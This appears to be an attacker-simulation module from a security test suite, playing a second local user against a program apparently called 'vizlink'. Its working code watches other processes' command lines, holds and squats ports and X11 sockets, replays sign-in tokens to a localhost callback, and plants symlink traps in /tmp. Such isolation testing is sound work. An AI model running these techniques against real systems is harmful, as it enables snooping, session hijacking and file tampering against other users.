/** The second user: no group, no file and no password in common with the first, but the machine and everything that root sees. */
import { mkdirSync, readdirSync, readFileSync, symlinkSync, writeFileSync } from 'node:fs'
import { createServer, connect, type Server, type Socket } from 'node:net'
import { join } from 'node:path'
import { serveCommands } from './commands.ts'
import { fileAttacks } from './attack-files.ts'
import { hostAttacks, type OwnCertificate } from './attack-host.ts'
import { datagramAttacks } from './attack-datagrams.ts'
import { processAttacks } from './attack-processes.ts'
import { claim, exchangeTls, portAttacks } from './attack-ports.ts'
import { socketAttacks } from './attack-sockets.ts'
import { delay } from './attack-kit.ts'
import type { Outcome, World } from './world.ts'

/** No attack takes as long. */
const deadlineMs = 15_000
const home = process.env.HOME ?? '/'
let own: OwnCertificate = { key: '', cert: '' }
let holding = false
const held: Socket[] = []
const reached: number[] = []
const claimed: number[] = []
/** The ports of hosts on their nodes lie below those that Linux gives to programs that ask for any. */
const isHostPort = (port: number): boolean => port < 32_768
let watching = false
let commandLines = new Set<string>()
const planted: string[] = []
/** What listens in somebody's place, and what came to it. */
let squatters: Server[] = []
let visitors: string[] = []

async function listenAt(where: { host: string; port: number } | { path: string }): Promise<string | null> {
  const server = createServer((socket) => {
    socket.on('error', () => undefined)
    socket.on('data', (data: Buffer) => void visitors.push(data.toString('latin1').slice(0, 300)))
  })
  const failed = await new Promise<string | null>((resolve) => {
    server.once('error', (error: NodeJS.ErrnoException) => resolve(error.code ?? 'error'))
    server.listen({ ...where, exclusive: true }, () => resolve(null))
  })
  if (failed === null) squatters.push(server)
  return failed
}

const handlers = {
  prepare(given: OwnCertificate) {
    own = given
  },
  /** @param inTurn one after the other; otherwise side by side */
  async attack({
    names,
    world,
    inTurn = false,
  }: {
    names: string[]
    world: World
    inTurn?: boolean
  }): Promise<Record<string, Outcome>> {
    const all = {
      ...fileAttacks,
      ...processAttacks,
      ...socketAttacks,
      ...portAttacks,
      ...datagramAttacks,
      ...hostAttacks(own),
    }
    const one = async (name: string): Promise<[string, Outcome]> => {
      const attack = all[name]
      if (!attack) throw new Error(`no such attack: ${name}`)
      const late = delay(deadlineMs, null, { ref: false }).then(() =>
        Promise.reject(new Error(`${name} hangs`)),
      )
      return [name, await Promise.race([attack(world), late])]
    }
    if (!inTurn) return Object.fromEntries(await Promise.all(names.map(one)))
    const outcomes: [string, Outcome][] = []
    for (const name of names) outcomes.push(await one(name))
    return Object.fromEntries(outcomes)
  },
  /**
   * From now on holds connections to each port that the user's programs open, as soon as it is there: half of them say
   * nothing, half never end their request; and tries to claim what listens as its host.
   */
  hold({ uid, besides, count }: { uid: number; besides: number[]; count: number }) {
    const known = new Set(besides)
    const look = (): void => {
      if (!holding) return
      for (const line of readFileSync('/proc/net/tcp', 'utf8').split('\n').slice(1)) {
        const [, local = '', , state, , , , owner] = line.trim().split(/\s+/)
        const bytes = Buffer.from(local.slice(0, 8), 'hex').swap32()
        const bound = { address: [...bytes].join('.'), port: Number.parseInt(local.slice(9), 16) }
        if (state !== '0A' || Number(owner) !== uid || known.has(bound.port) || isHostPort(bound.port))
          continue
        known.add(bound.port)
        reached.push(bound.port)
        for (let index = 0; index < count; index++) {
          const socket = connect({ host: bound.address, port: bound.port })
          socket.on('error', () => undefined)
          if (index % 2) socket.write('GET / HTTP/1.1\r\nHost: ')
          held.push(socket)
        }
        const target = { ...bound, part: 'client' as const, connected: false }
        void exchangeTls(target, claim(target)).then((answer) => {
          if (answer?.includes('"status": "true"')) claimed.push(bound.port)
        })
      }
      setTimeout(look, 5)
    }
    holding = true
    look()
  },
  /** @returns ports that were reached, and those behind which a host was claimed */
  letGo() {
    holding = false
    for (const socket of held.splice(0)) socket.destroy()
    return { reached: reached.splice(0), claimed: claimed.splice(0) }
  },
  /** Looks at all command lines as often as it can. */
  watchCommandLines() {
    watching = true
    const looksAt = new Map<string, number>()
    let looks = 0
    const look = (): void => {
      if (!watching) return
      // A number that is free again may be another process's.
      if (looks++ % 64 === 0) looksAt.clear()
      for (const pid of readdirSync('/proc')) {
        const before = looksAt.get(pid) ?? 0
        // One look does not do: a process that was just made shows its parent's words until it has its own.
        if (!/^\d/.test(pid) || before >= 12) continue
        looksAt.set(pid, before + 1)
        try {
          commandLines.add(readFileSync(`/proc/${pid}/cmdline`, 'utf8'))
        } catch {
          // It has ended.
        }
      }
      setTimeout(look, 8)
    }
    look()
  },
  commandLinesSeen(): Outcome {
    watching = false
    const seen = [...commandLines]
    commandLines = new Set()
    return { tried: seen.length, gained: [], seen }
  },
  /** Listens in the place of the user's programs. @returns those that could be had */
  async squat({ ports, displays }: { ports: { host: string; port: number }[]; displays: number[] }) {
    const got: string[] = []
    for (const { host, port } of ports)
      if ((await listenAt({ host, port })) === null) got.push(`${host}:${port}`)
    for (const number of displays) {
      const path = `/tmp/.X11-unix/X${number}`
      if ((await listenAt({ path: `\0${path}` })) === null) got.push(`@${path}`)
    }
    return got
  },
  /** Gives the places back. @returns what came there */
  unsquat(): string[] {
    for (const server of squatters) server.close()
    squatters = []
    const came = visitors
    visitors = []
    return came
  },
  /** Says something at the port where browsers bring a sign-in back. @returns the answers' first lines */
  async handOff({ tokens, port }: { tokens: string[]; port: number }): Promise<string[]> {
    const answers: string[] = []
    for (const token of tokens) {
      for (const host of ['127.0.0.1', '::1']) {
        const socket = connect({ host, port })
        const answer = new Promise<string>((resolve) => {
          let text = ''
          socket.setEncoding('latin1').on('data', (chunk: string) => (text += chunk))
          socket.once('close', () => resolve(text.split('\r\n')[0] ?? ''))
          socket.once('error', () => resolve(''))
          setTimeout(() => socket.destroy(), 1500).unref()
        })
        socket.write(
          `GET /auth/callback?token=${token} HTTP/1.1\r\nHost: localhost:${port}\r\nSec-Fetch-Dest: document\r\nConnection: close\r\n\r\n`,
        )
        answers.push(await answer)
      }
    }
    return answers
  },
  /** Puts links and folders under names that the user's programs have had, or would give to what they left. */
  plant({ names, target }: { names: string[]; target: string }) {
    const trap = join(home, 'trap')
    mkdirSync(trap, { recursive: true, mode: 0o777 })
    for (const name of names) {
      try {
        symlinkSync(join(trap, `${planted.length}`), name)
        planted.push(name)
      } catch {
        // There is one already.
      }
    }
    const gone = 4_190_000
    symlinkSync(target, `/tmp/vizlink-browser-${gone}-abcdef`)
    const folder = `/tmp/vizlink-sign-in-${gone}-abcdef`
    mkdirSync(folder, { mode: 0o777 })
    symlinkSync(target, join(folder, 'data'))
    writeFileSync(join(folder, 'vizlink.html'), 'mallory')
    return planted.length
  },
  /** What went where a planted link leads. */
  trapped: (): string[] => readdirSync(join(home, 'trap')),
}
export type AttackerCommands = typeof handlers
serveCommands(handlers)
